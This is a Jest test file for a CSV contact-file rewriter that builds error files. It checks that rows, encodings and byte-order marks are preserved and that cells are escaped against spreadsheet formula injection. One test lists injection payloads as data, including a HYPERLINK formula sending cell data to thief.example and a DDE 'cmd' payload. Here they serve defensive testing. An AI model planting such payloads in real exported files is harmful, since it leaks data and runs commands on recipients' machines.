import { describe, expect, test } from '@jest/globals';
import iconv from 'iconv-lite';
import { createContactFiles } from '../../../src/providers/contact-files/contact-files.ts';
import type { PlacedRow, StoredFile } from '../../../src/providers/contact-files/port.ts';
import { allRows, inspected, storedFile } from '../../support/contact-file-bytes.ts';

const files = createContactFiles();

async function rewritten(
  file: StoredFile,
  {
    header = ['line', 'message'],
    cellsOf = (row: PlacedRow): string[] | null => [String(row.line), 'wrong'],
  } = {},
): Promise<Buffer> {
  const { reading } = await inspected(files, file);
  const pieces: Uint8Array[] = [];
  for await (const piece of files.rewrite(file, reading, {
    header,
    cellsOf: async (rows) => await Promise.resolve(rows.map(cellsOf)),
  }))
    pieces.push(piece);
  return Buffer.concat(pieces);
}

describe('an error file has the original rows and what is wrong with them', () => {
  // guarantee: error-file-copies-rows
  test('rows are those of the file, unchanged, followed by the new cells; other rows are left out', async () => {
    const text = 'phone;"na""me";note\r\n1;"a;b";\r\n2;x;y\r\n"3";"two\nlines";z\r\n';
    const out = await rewritten(storedFile(text), {
      cellsOf: ({ line, cells }) => (cells[0] === '2' ? null : [String(line), 'bad; very']),
    });
    expect(out.toString()).toBe(
      'phone;"na""me";note;line;message\r\n1;"a;b";;2;"bad; very"\r\n"3";"two\nlines";z;4;"bad; very"\r\n',
    );
  });

  test.each(['utf8', 'utf16le', 'utf16be', 'win1251', 'koi8-r', 'cp866'])(
    'the encoding of the file stays: %s',
    async (encoding) => {
      const text = 'Телефон;Имя\n+79161234567;Иван Петров\n+79161234568;Мария\n';
      const bytes = iconv.encode(text, encoding);
      const out = await rewritten(storedFile(bytes), { header: ['code'], cellsOf: () => ['phone_invalid'] });
      expect(iconv.decode(out, encoding)).toBe(
        'Телефон;Имя;code\n+79161234567;Иван Петров;phone_invalid\n+79161234568;Мария;phone_invalid\n',
      );
    },
  );

  test('a byte-order mark stays', async () => {
    const out = await rewritten(storedFile('\uFEFFphone,name\n1,é\n'));
    expect([...out.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  test('short, long and broken rows are normalized, so that the new cells are in their columns', async () => {
    const out = await rewritten(storedFile('phone,name\n1\n2,a,b\n3,"c\n4,d\n'));
    expect(out.toString()).toBe(
      'phone,name,line,message\n1,,2,wrong\n2,a,3,wrong,b\n3,"""c",4,wrong\n4,d,5,wrong\n',
    );
  });

  // guarantee: added-cells-are-not-formulas
  test('added cells cannot be formulas', async () => {
    const out = await rewritten(storedFile('phone,name\n1,Ada\n'), {
      header: ['=message'],
      cellsOf: () => ['@SUM(A1)'],
    });
    expect(out.toString()).toBe("phone,name,'=message\n1,Ada,'@SUM(A1)\n");
  });

  // guarantee: error-file-has-no-formulas
  test('existing cells cannot be formulas, and numbers stay as they are', async () => {
    const cells = [
      ['=1+1', "'=1+1"],
      ['=HYPERLINK("http://thief.example/?"&A1)', '"\'=HYPERLINK(""http://thief.example/?""&A1)"'],
      ['@SUM(A1)', "'@SUM(A1)"],
      ["-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"],
      ['+A1', "'+A1"],
      ['＝1+1', "'＝1+1"],
      ['+49 30/23125 110 - 112', '+49 30/23125 110 - 112'],
      ['-5.2', '-5.2'],
      ['Ada = 1', 'Ada = 1'],
    ] as const;
    for (const [cell, safe] of cells) {
      const written = cell.includes('"') ? `"${cell.replaceAll('"', '""')}"` : cell;
      const out = await rewritten(storedFile(`phone,=name\n1,${written}\n`), {
        header: [],
        cellsOf: () => [],
      });
      expect(out.toString()).toBe(`phone,'=name\n1,${safe}\n`);
    }
  });

  test('an error file without repairs reads like the file itself', async () => {
    const text = 'phone,name\n1,"a, ""b"""\n2,"c\nd"\n';
    const out = await rewritten(storedFile(text));
    const again = await allRows(files, storedFile(out));
    expect(again.map(({ cells }) => cells.slice(0, 2))).toEqual(
      (await allRows(files, storedFile(text))).map(({ cells }) => cells),
    );
  });
});
